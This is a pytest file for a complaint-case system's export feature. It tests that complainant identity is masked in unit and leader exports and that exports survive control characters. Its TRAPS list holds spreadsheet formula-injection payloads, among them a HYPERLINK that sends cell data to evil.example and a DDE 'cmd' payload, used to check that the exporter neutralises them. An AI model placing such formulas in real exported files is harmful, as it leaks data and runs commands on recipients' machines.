"""Exports are masked for whoever holds the file: a unit's never names the complainant."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session

from duban.reports.export import export_cases
from duban.services import CaseService, ServiceContext
from duban.services.queries import CaseFilter, scope_for
from tests.factories import CLERK, DISPATCHER, LEADER, complaint, unit_actor, world


@pytest.fixture
def ctx(engine: Engine) -> ServiceContext:
    ctx = world(engine, start="2023-11-01 09:00")
    service = CaseService(ctx)
    # A complainant who agreed the unit may see them, and who is named in the title as well.
    for title, consent in (("王五反映城关区某项目拖欠工程款", True), ("城关区某小区停水", False)):
        data = complaint(title=title, complainant_name="王五", complainant_phone="13800138000",
                         complainant_consent=consent)
        number = service.register(data, actor=CLERK).case.number
        service.act(number, "transfer", actor=DISPATCHER, form={"unit": "GS-LZ-CG-GOV"})
    return ctx


def _read(path: Path) -> list[list[str]]:
    if path.suffix == ".xlsx":
        rows = load_workbook(path, read_only=True).worksheets[0].iter_rows(values_only=True)
        return [["" if v is None else str(v) for v in r] for r in rows]
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_units_export_holds_no_complainant_identity_even_with_consent(
        ctx: ServiceContext, tmp_path: Path, suffix: str) -> None:
    unit = unit_actor(ctx, "GS-LZ-CG-GOV")
    with Session(ctx.engine) as session:
        flt = scope_for(session, unit)
    path = tmp_path / f"unit{suffix}"
    assert export_cases(ctx, flt, path, actor=unit) == 2
    rows = _read(path)
    text = "\n".join(",".join(r) for r in rows)
    assert "王五" not in text and "13800138000" not in text
    assert "反映人" not in rows[0] and "联系电话" not in rows[0]
    assert "（保密）反映城关区某项目拖欠工程款" in text


def test_the_offices_own_export_carries_the_complainant(ctx: ServiceContext, tmp_path: Path) -> None:
    path = tmp_path / "office.xlsx"
    assert export_cases(ctx, CaseFilter(limit=1000), path, actor=DISPATCHER) == 2
    rows = _read(path)
    assert {"反映人", "联系电话", "实名"} <= set(rows[0])
    assert any("13800138000" in r for r in rows[1:])


def test_a_leaders_export_is_masked_too(ctx: ServiceContext, tmp_path: Path) -> None:
    path = tmp_path / "leader.csv"
    export_cases(ctx, CaseFilter(limit=1000), path, actor=LEADER)
    assert "王五" not in path.read_text(encoding="utf-8-sig")


def test_an_export_of_another_units_cases_is_empty(ctx: ServiceContext, tmp_path: Path) -> None:
    other = unit_actor(ctx, "GS-FGW")
    with Session(ctx.engine) as session:
        flt = scope_for(session, other)
    assert export_cases(ctx, flt, tmp_path / "other.csv", actor=other) == 0


TRAPS = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"点击\")", "+1+1", "-1+1", "@SUM(A1)", "＝1+1",
         " =1+1", "=cmd|' /C calc'!A0", "\t=1+1", "\r\n@SUM(A1)"]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_typed_formulas_are_written_as_text_beside_the_complainant(
        ctx: ServiceContext, tmp_path: Path, suffix: str) -> None:
    service = CaseService(ctx)
    for i, trap in enumerate(TRAPS):  # a number of its own: not a repeat of another (matter_key)
        service.register(complaint(title=f"{trap}拖欠工程款{i}", summary=trap, complainant_name="王五",
                                   subject_name=trap), actor=CLERK)
    path = tmp_path / f"office{suffix}"
    assert export_cases(ctx, CaseFilter(limit=1000), path, actor=DISPATCHER) == 2 + len(TRAPS)
    if suffix == ".xlsx":
        cells = [c for row in load_workbook(path).worksheets[0].iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert all(f"{trap}拖欠工程款{i}" in texts and trap in texts for i, trap in enumerate(TRAPS))
    else:
        raw = path.read_bytes().decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
        assert all(f"'{trap}拖欠工程款{i}" in cells and f"'{trap}" in cells for i, trap in enumerate(TRAPS))
        assert not [c for c in cells if c[:1] in "=+-@＝＋－＠\t\r" and c]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_control_characters_pasted_into_a_complaint_never_stop_the_export(
        ctx: ServiceContext, tmp_path: Path, suffix: str) -> None:
    """A form feed, an escape or a vertical tab copied from a scanned letter's text is no XML
    character: one case that holds one must not make the office's whole workbook fail."""
    service = CaseService(ctx)
    for i, odd in enumerate(["\x0b", "\x0c", "\x1b", "\x01", "\x7f", "\x08"]):
        service.register(complaint(title=f"停水{odd}第{i}件", summary=f"摘要{odd}",
                                   complainant_name=f"王{odd}五", subject_name=f"对象{odd}"), actor=CLERK)
    path = tmp_path / f"office{suffix}"
    assert export_cases(ctx, CaseFilter(limit=1000), path, actor=DISPATCHER) == 8
    text = "\n".join(",".join(r) for r in _read(path))
    assert all(f"第{i}件" in text for i in range(6))
